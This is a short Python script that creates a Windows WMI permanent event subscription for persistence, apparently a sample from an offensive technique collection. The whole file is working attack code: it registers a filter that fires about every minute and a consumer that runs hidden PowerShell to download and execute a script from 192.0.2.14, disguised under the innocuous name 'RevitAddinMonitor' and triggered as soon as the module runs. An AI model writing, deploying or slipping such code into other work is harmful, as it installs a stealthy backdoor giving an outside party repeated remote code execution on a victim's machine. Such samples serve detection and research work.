# technique: WMI permanent event subscription (__EventFilter + CommandLineEventConsumer + binding) created via the wmi/COM module
import win32com.client

NS = "winmgmts:\\\\.\\root\\subscription"


class _Persist(object):
    query = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE "
             "TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'")
    cmdline = "powershell -w hidden -c \"iwr http://192.0.2.14/p.ps1 | iex\""

    def __init__(self):
        self.svc = win32com.client.GetObject(NS)

    def _spawn(self, cls, **props):
        inst = self.svc.Get(cls).SpawnInstance_()
        for k, v in props.items():
            setattr(inst, k, v)
        return inst.Put_().Path

    def apply(self):
        f = self._spawn("__EventFilter", Name="RevitAddinMonitor",
                        EventNamespace="root\\cimv2", QueryLanguage="WQL", Query=self.query)
        c = self._spawn("CommandLineEventConsumer", Name="RevitAddinMonitor",
                        CommandLineTemplate=self.cmdline)
        self._spawn("__FilterToConsumerBinding", Filter=f, Consumer=c)


_Persist().apply()
